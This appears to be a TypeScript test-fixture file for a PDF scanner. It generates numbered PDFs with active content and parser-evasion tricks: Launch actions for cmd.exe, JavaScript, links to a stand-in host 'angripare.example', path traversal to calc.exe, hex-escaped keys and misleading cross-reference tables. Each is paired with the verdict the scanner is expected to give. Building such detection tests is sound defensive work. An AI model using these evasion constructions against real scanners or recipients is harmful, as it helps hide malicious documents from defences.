import { readFileSync } from "node:fs";
import { deflateSync } from "node:zlib";
import { pdfOf } from "../files.ts";

type Attack = [what: string, fileName: string, data: Buffer, code: string];

/** A compressed object stream, as PDF 1.5 keeps objects in. */
export function objectStreamOf(objects: string, { type = "/ObjStm", filter = "/FlateDecode" } = {}): Buffer {
  const packed = deflateSync(Buffer.from(objects, "latin1"));
  return Buffer.concat([
    Buffer.from(`\n8 0 obj\n<< /Type ${type} /N 1 /First 4 /Filter ${filter} /Length ${packed.length} >>\nstream\n`),
    packed,
    Buffer.from("\nendstream\nendobj\n"),
  ]);
}

/** A PDF with more objects, whose numbers begin at 5, and a page with an annotation, if one is given. */
function pdfWith(objects: string[], { catalog = "", annotation = "" } = {}): Buffer {
  const all = [
    ...objects,
    ...(annotation === "" ? [] : [`<< /Type /Page /Annots [<< /Rect [0 0 9 9] ${annotation} >>] >>`]),
  ];
  return pdfOf(all.map((object, index) => `\n${index + 5} 0 obj\n${object}\nendobj\n`).join(""), { catalog });
}

const launch = "<< /S /Launch /F (cmd.exe) >>";
const script = "/S /JavaScript /JS (app.alert\\(1\\))";

/** PDFs that run or fetch something, or hide what does. */
export const activePdfs: Attack[] = (
  [
    [
      "59 a script in a rendition",
      pdfWith([], { annotation: "/Subtype /Screen /A << /S /Rendition /JS (app.alert\\(1\\)) >>" }),
    ],
    [
      "60 a rendition of an ordinary link",
      pdfWith([], { annotation: "/Subtype /Link /A << /S /Rendition /JS (x) >>" }),
    ],
    [
      "61 an XFA form behind a reference",
      pdfWith(["<< /Fields [] /X#46A 6 0 R >>", "[(template) 7 0 R]"], { catalog: "/AcroForm 5 0 R" }),
    ],
    [
      "62 attachments behind a reference",
      pdfWith(["<< /E#6dbeddedFiles 6 0 R >>", "<< /Names [] >>"], { catalog: "/Names 5 0 R" }),
    ],
    [
      "63 an attachment as an annotation",
      pdfWith([], { annotation: "/Subtype /FileAttachment /FS << /F (a.exe) /EF << /F 9 0 R >> >>" }),
    ],
    [
      "64 a link to a document on another machine",
      pdfWith([], {
        annotation: "/Subtype /Link /A << /S /GoToR /F (\\\\\\\\angripare.example\\\\x.pdf) /D [0 /Fit] >>",
      }),
    ],
    [
      "65 a page that is fetched when the document opens",
      pdfWith([], { catalog: "/OpenAction << /S /URI /URI (https://angripare.example/) >>" }),
    ],
    [
      "66 a stream whose content is another file",
      pdfWith(["<< /Length 0 /F (\\\\\\\\angripare.example\\\\x) >>\nstream\n\nendstream"]),
    ],
    [
      "67 a link to a file on another machine",
      pdfWith([], { annotation: "/Subtype /Link /A << /S /URI /URI (file://angripare.example/x) >>" }),
    ],
    [
      "68 a kind of action behind a reference",
      pdfWith(["/Launch"], { annotation: "/Subtype /Link /A << /S 5 0 R /F (cmd.exe) >>" }),
    ],
    [
      "69 an action that follows another",
      pdfWith([], { annotation: `/Subtype /Link /A << /S /GoTo /D [3 0 R /Fit] /Next ${launch} >>` }),
    ],
    ["70 a key in lower-case hexadecimal", pdfWith([], { catalog: `/Open#41ctio#6e << ${script} >>` })],
    ["71 a script when a field changes", pdfWith([`<< /FT /Tx /T (a) /AA << /K << ${script} >> >> >>`])],
    ["72 an older version of an object", pdfWith([`<< ${script} >>`, "null"], { catalog: "/OpenAction 5 0 R" })],
    [
      "73 a newer version of the catalogue",
      pdfOf(`\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction ${launch} >>\nendobj\ntrailer\n<< /Root 1 0 R >>`),
    ],
    ["74 a catalogue in a trailer", pdfOf(`\ntrailer\n<< /Root << /Pages 2 0 R /OpenAction ${launch} >> >>`)],
    [
      "75 an object inside a stream's content",
      pdfWith([`<< /Length 60 >>\nstream\n9 0 obj ${launch} endobj\nendstream`], { catalog: "/OpenAction 9 0 R" }),
    ],
    [
      "76 an object stream without its type",
      pdfOf(objectStreamOf(`5 0 ${launch}`, { type: "/X" }), { catalog: "/OpenAction 5 0 R" }),
    ],
    ["77 a film", pdfWith([], { annotation: "/Subtype /RichMedia" })],
    ["78 a portfolio", pdfWith([], { catalog: "/Collection << >>" })],
    ["79 a page's own steps", pdfWith([`<< /Type /Page /PresSteps << /NA ${launch} >> >>`])],
    ["104 a program in PostScript", pdfWith(["<< /Subtype 6 0 R /Length 0 >>\nstream\n\nendstream", "/PS"])],
    [
      "105 a script among the addresses of pages",
      pdfWith(["<< /Names [(javascript:alert\\(1\\)) 3 0 R] >>"], { catalog: "/Names << /URLS 5 0 R >>" }),
    ],
  ] as [string, Buffer][]
).map(([what, data]): Attack => [what, "protokoll.pdf", data, "FILE_ACTIVE"]);

activePdfs.push(
  ...(
    [
      [
        "80 a key that is given twice",
        pdfWith([], { annotation: "/Subtype /Link /A << /S /Launch /S /GoTo /F (cmd.exe) >>" }),
      ],
      [
        "81 a comment inside the beginning of an object",
        pdfOf(`\n9 0 %x\nobj ${launch} endobj\n`, { catalog: "/OpenAction 9 0 R" }),
      ],
      [
        "82 an object inside another's text",
        pdfWith([`(\n9 0 obj ${launch.replace("(cmd.exe)", "/x")} endobj )`], { catalog: "/OpenAction 9 0 R" }),
      ],
    ] as [string, Buffer][]
  ).map(([what, data]): Attack => [what, "protokoll.pdf", data, "FILE_CONTENT"]),
);

activePdfs.push(
  ...["www.x/../../Windows/calc.exe", "www.x/%2E%2e/a.exe", "www.x/.%2e"].map((target): Attack => {
    const data = pdfWith([], { annotation: `/Subtype /Link /A << /S /URI /URI (${target}) >>` });
    return [`134 a link to ${target}`, "protokoll.pdf", data, "FILE_ACTIVE"];
  }),
);

const opening = { catalog: "/OpenAction 5 0 R" };
const scripted = `<< ${script} >>`;
activePdfs.push(
  ...["5.0 0", "5. 0", "5 0.0", "5 +0", "5 -0", "+5 0", "5 0.", "05-0 0", "5\u0080.0 0"].map((number): Attack => {
    const data = pdfOf(Buffer.from(`\n${number} obj ${scripted} endobj\n`, "latin1"), opening);
    return [`114 an object whose number is written ${JSON.stringify(number)}`, "protokoll.pdf", data, "FILE_CONTENT"];
  }),
  [
    "115 a kind of action whose object's number is written 8.0",
    "protokoll.pdf",
    pdfOf("\n5 0 obj << /S 8 0 R /JS (x) >> endobj\n8.0 0 obj /JavaScript endobj\n", opening),
    "FILE_CONTENT",
  ],
  ...["\u0080", "\u00ff"].map((blank): Attack => {
    const action = `\n5 0 obj << /S${blank}/JavaScript${blank}/JS (x) >> endobj\n`;
    const data = pdfOf(Buffer.from(action, "latin1"), opening);
    return [`116 a blank of some programs, ${JSON.stringify(blank)}`, "protokoll.pdf", data, "FILE_CONTENT"];
  }),
  ...["\u0080", "\u00ff"].map((blank): Attack => {
    const written = objectStreamOf(`5 0 ${scripted}`).toString("latin1").replace(">>\nstream", `>>${blank}stream`);
    const data = pdfOf(Buffer.from(written, "latin1"), opening);
    return [`116 such a blank before a stream, ${JSON.stringify(blank)}`, "protokoll.pdf", data, "FILE_CONTENT"];
  }),
  [
    "117 an object that the table finds in another's number",
    "protokoll.pdf",
    inTable("15 0 obj", 1, "5"),
    "FILE_ACTIVE",
  ],
  ["118 an object to which the table gives another number", "protokoll.pdf", inTable("9 0 obj", 0, "5"), "FILE_ACTIVE"],
  [
    "119 a table whose entries are 21 bytes long",
    "protokoll.pdf",
    inTable("15 0 obj", 1, "4", "0000000000 65535 f  \n"),
    "FILE_ACTIVE",
  ],
  [
    "120 a compressed object to which the table gives another number",
    "protokoll.pdf",
    pdfOf(Buffer.concat([objectStreamOf(`9 0 ${scripted}`), xrefStreamOf([2, 0, 8, 0])]), opening),
    "FILE_ACTIVE",
  ],
);

/** An action that only a cross-reference table finds as object 5: the file's own text gives another number. */
function inTable(beginning: string, skipped: number, first: string, before = ""): Buffer {
  const object = `\n${beginning} ${scripted} endobj\n`;
  const at = pdfOf("", opening).length + 1 + skipped;
  const entry = `${String(at).padStart(10, "0")} 00000 n \n`;
  const count = before === "" ? 1 : 2;
  return pdfOf(`${object}xref\n${first} ${count}\n${before}${entry}trailer\n<< /Size 9 /Root 1 0 R >>\n`, opening);
}

/** A cross-reference stream of rows for object 5: kind, two bytes, one byte. */
function xrefStreamOf(row: number[]): Buffer {
  return Buffer.concat([
    Buffer.from(`\n10 0 obj\n<< /Type /XRef /W [1 2 1] /Index [5 1] /Size 11 /Root 1 0 R /Length 4 >>\nstream\n`),
    Buffer.from(row),
    Buffer.from("\nendstream\nendobj\n"),
  ]);
}

const lockedFiles: [what: string, file: string][] = [
  ["83 a link to a file, encrypted with RC4", "file-128"],
  ["84 a link to a file, encrypted with AES", "file-256"],
  ["85 a script in an object stream, encrypted with RC4", "js-128"],
  ["86 a script in an object stream, encrypted with AES", "js-256"],
  ["87 an object stream that a password opens, encrypted with RC4", "user-128"],
  ["88 an object stream that a password opens, encrypted with AES", "user-256"],
];
activePdfs.push(
  ...lockedFiles.map(([what, file]): Attack => {
    const data = readFileSync(new URL(`../locked-files/${file}.pdf`, import.meta.url));
    return [what, "protokoll.pdf", data, "FILE_ACTIVE"];
  }),
);
